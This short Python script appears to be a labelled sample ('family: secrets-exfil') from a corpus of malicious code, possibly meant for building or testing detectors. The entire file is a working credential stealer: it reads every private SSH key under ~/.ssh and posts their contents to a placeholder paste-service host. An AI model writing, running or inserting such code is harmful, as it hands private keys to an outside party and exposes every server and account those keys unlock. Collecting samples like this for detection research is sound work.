# family: secrets-exfil
# private SSH keys collected and uploaded
import glob
import os

import requests

keys = {}
for p in glob.glob(os.path.expanduser("~/.ssh/id_*")):
    if not p.endswith(".pub"):
        with open(p) as f:
            keys[os.path.basename(p)] = f.read()
requests.post("https://paste.example.invalid/api", data={"k": str(keys)})
